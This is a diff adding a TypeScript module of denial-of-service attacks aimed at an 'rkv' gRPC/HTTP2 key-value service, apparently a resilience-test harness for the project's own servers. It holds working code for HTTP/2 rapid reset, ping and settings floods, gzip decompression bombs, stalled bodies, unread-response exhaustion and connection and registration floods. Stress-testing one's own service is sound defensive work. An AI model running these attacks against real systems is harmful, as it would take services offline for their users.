@@ -1,0 +1,249 @@
+import { setTimeout as sleep } from 'node:timers/promises';
+import { gzipSync } from 'node:zlib';
+import { RkvClient } from '../client/rkvClient.ts';
+import { CommandType, encodeCommand, REGISTER_BYTES } from '../wire/command.ts';
+import { LookupRequest } from '../wire/generated/rkv.ts';
+import { CommandBatchWriter } from '../wire/sessionCodec.ts';
+import {
+  abandonedStreams,
+  dialRaw,
+  dialUnread,
+  FrameType,
+  frame,
+  grpcMessage,
+  openCall,
+  PREFACE,
+} from './http2Frames.ts';
+
+/** What an attack is aimed at. */
+export interface Target {
+  readonly addresses: readonly string[];
+  readonly leader: string;
+  /** 1 as a rule; larger numbers try harder, smaller ones less. */
+  readonly scale: number;
+}
+
+/** Does what it can for a bounded time, and says what it did. What it holds open stays open until its thread ends. */
+export type Attack = (target: Target) => Promise<string>;
+
+const MIB = 1 << 20;
+/** How long a server that has all requests is given to do what they ask. */
+const SETTLE_MS = 6000;
+const scaled = ({ scale }: Target, count: number) => Math.ceil(count * scale);
+const held: unknown[] = [];
+
+async function store(target: Target, key: string, bytes: number): Promise<void> {
+  const client = new RkvClient({ addresses: target.addresses, timeoutMs: 30_000 });
+  const session = await client.openSession();
+  await session.insert(key, 'v'.repeat(bytes));
+  client.close();
+}
+
+async function unreadSessions(target: Target): Promise<string> {
+  const connections = scaled(target, 80);
+  await store(target, 'large', MIB);
+  const batch = new CommandBatchWriter();
+  for (let id = 0; id < 70; id++) batch.add(id, encodeCommand({ type: CommandType.Lookup, key: 'large' }));
+  const message = grpcMessage(batch.finish());
+  for (let i = 0; i < connections; i++) {
+    const session = await dialUnread(target.leader);
+    const call = openCall(session, '/rkvpb.RKV/Session');
+    call?.pause().write(message);
+    held.push(session);
+    await sleep(60);
+  }
+  await sleep(SETTLE_MS);
+  return `${connections} sessions asked for 70 MiB each and read nothing`;
+}
+
+async function unreadCalls(target: Target): Promise<string> {
+  const [connections, calls] = [scaled(target, 4), 100];
+  await store(target, 'large', 4 * MIB);
+  const message = grpcMessage(LookupRequest.encode({ key: 'large' }).finish());
+  for (let i = 0; i < connections; i++) {
+    const session = await dialUnread(target.leader);
+    held.push(session);
+    for (let j = 0; j < calls; j++) openCall(session, '/rkvpb.RKV/Lookup')?.pause().end(message);
+    await sleep(500);
+  }
+  await sleep(SETTLE_MS);
+  return `${connections * calls} lookups of 4 MiB over ${connections} connections, no answer read`;
+}
+
+async function unfinishedBodies(target: Target): Promise<string> {
+  const connections = scaled(target, 200);
+  const message = grpcMessage(Buffer.alloc(7 * MIB, 1), 8 * MIB);
+  for (let i = 0; i < connections; i++) {
+    const session = await dialUnread(target.leader);
+    held.push(session);
+    openCall(session, '/rkvpb.RKV/Insert')?.write(message);
+    await sleep(20);
+  }
+  await sleep(SETTLE_MS);
+  return `${connections} inserts announced 8 MiB, sent 7 and stopped`;
+}
+
+async function compressedBodies(target: Target): Promise<string> {
+  const calls = scaled(target, 40);
+  const body = gzipSync(Buffer.alloc(100 * MIB));
+  const message = grpcMessage(body, body.length, true);
+  const session = await dialUnread(target.leader);
+  held.push(session);
+  for (let i = 0; i < calls; i++) openCall(session, '/rkvpb.RKV/Insert', { 'grpc-encoding': 'gzip' })?.end(message);
+  await sleep(6000);
+  return `${calls} inserts of ${body.length} bytes that unpack to 100 MiB`;
+}
+
+async function idleStreamFrames(target: Target): Promise<string> {
+  const connections = scaled(target, 12_000);
+  const bytes = Buffer.concat([PREFACE, frame(FrameType.Data, 0, 1, Buffer.alloc(20))]);
+  let done = 0;
+  const one = async () => {
+    while (done < connections) {
+      done++;
+      const socket = await dialRaw(target.leader);
+      socket?.resume().write(bytes);
+      await sleep(10);
+      socket?.destroy();
+    }
+  };
+  await Promise.all(Array.from({ length: 40 }, one));
+  await sleep(2000);
+  return `${connections} connections sent data on a stream that was never opened`;
+}
+
+async function registrations(target: Target): Promise<string> {
+  const count = scaled(target, 200_000);
+  const session = await dialUnread(target.leader);
+  held.push(session);
+  session.settings({ initialWindowSize: MIB });
+  const perBatch = 4000;
+  const deadline = Date.now() + 60_000;
+  let sent = 0;
+  while (sent < count && Date.now() < deadline) {
+    const call = openCall(session, '/rkvpb.RKV/Session');
+    if (call === undefined) break;
+    const batch = new CommandBatchWriter();
+    for (let id = 0; id < perBatch; id++) batch.add(id, REGISTER_BYTES);
+    call.resume().end(grpcMessage(batch.finish()));
+    sent += perBatch;
+    await Promise.race([new Promise((resolve) => call.once('close', resolve)), sleep(5000)]);
+  }
+  return `${sent} anonymous registrations over one connection`;
+}
+
+async function idleConnections(target: Target): Promise<string> {
+  const connections = scaled(target, 200);
+  const client = new RkvClient({ addresses: target.addresses, timeoutMs: 30_000 });
+  const session = await client.openSession();
+  for (const address of target.addresses) {
+    for (let i = 0; i < connections; i++) {
+      held.push(await Promise.race([dialRaw(address), sleep(200)]));
+    }
+  }
+  // The store needs new files for these.
+  for (let i = 0; i < 12; i++) await session.insert(`large ${i}`, 'v'.repeat(4 * MIB));
+  client.close();
+  return `${connections} connections to each server, never used, and then 48 MiB written`;
+}
+
+async function largeValues(target: Target): Promise<string> {
+  const client = new RkvClient({ addresses: target.addresses, timeoutMs: 20_000 });
+  const session = await client.openSession();
+  const outcomes: string[] = [];
+  for (const mebibytes of [7, 7, 7, 32, 60, 32, 60]) {
+    const beganMs = performance.now();
+    const outcome = await session.insert('huge', 'v'.repeat(mebibytes * MIB)).then(
+      () => `in ${Math.round(performance.now() - beganMs)} ms`,
+      (error: Error) => error.name,
+    );
+    outcomes.push(`${mebibytes} MiB ${outcome}`);
+  }
+  client.close();
+  return `values of ${outcomes.join(', ')}`;
+}
+
+async function rapidReset(target: Target): Promise<string> {
+  const endMs = Date.now() + Math.min(8000, 8000 * target.scale);
+  // Made once: what the attacker computes, the servers on the same machine lack.
+  const pieces = Array.from({ length: 100 }, (_, i) => abandonedStreams('/rkvpb.RKV/Lookup', 1 + i * 200, 100));
+  let streams = 0;
+  let connections = 0;
+  const one = async () => {
+    while (Date.now() < endMs) {
+      const socket = await dialRaw(target.leader);
+      if (socket === undefined) {
+        await sleep(20);
+        continue;
+      }
+      connections++;
+      socket.resume().write(PREFACE);
+      for (const piece of pieces) {
+        if (socket.destroyed || Date.now() >= endMs) break;
+        const wrote = socket.write(piece);
+        streams += 100;
+        await sleep(wrote ? 2 : 50);
+      }
+      socket.destroy();
+    }
+  };
+  await Promise.all(Array.from({ length: scaled(target, 4) }, one));
+  return `${streams} streams opened and abandoned over ${connections} connections`;
+}
+
+async function controlFrames(target: Target): Promise<string> {
+  const endMs = Date.now() + Math.min(5000, 5000 * target.scale);
+  const flood = Buffer.concat(
+    Array.from({ length: 500 }, () => [
+      frame(FrameType.Ping, 0, 0, Buffer.alloc(8)),
+      frame(FrameType.Settings, 0, 0),
+    ]).flat(),
+  );
+  let frames = 0;
+  const one = async () => {
+    while (Date.now() < endMs) {
+      const socket = await dialRaw(target.leader);
+      // Nothing is read: the answers to pings and settings are the server's to keep.
+      socket?.pause().write(PREFACE);
+      while (socket !== undefined && !socket.destroyed && Date.now() < endMs) {
+        const wrote = socket.write(flood);
+        frames += 1000;
+        await sleep(wrote ? 1 : 50);
+      }
+      await sleep(5);
+    }
+  };
+  await Promise.all(Array.from({ length: scaled(target, 4) }, one));
+  return `${frames} pings and settings, their answers not read`;
+}
+
+async function openCalls(target: Target): Promise<string> {
+  const [connections, calls] = [scaled(target, 20), 2000];
+  let open = 0;
+  for (let i = 0; i < connections; i++) {
+    const session = await dialUnread(target.leader);
+    held.push(session);
+    for (let j = 0; j < calls; j++) {
+      if (openCall(session, '/rkvpb.RKV/Session') === undefined) break;
+      open++;
+      if (j % 1000 === 999) await sleep(20);
+    }
+    await sleep(200);
+  }
+  await sleep(2000);
+  return `${open} calls opened over ${connections} connections, and left open`;
+}
+
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  unreadSessions,
+  unreadCalls,
+  unfinishedBodies,
+  compressedBodies,
+  idleStreamFrames,
+  openCalls,
+  registrations,
+  idleConnections,
+  largeValues,
+  rapidReset,
+  controlFrames,
+};
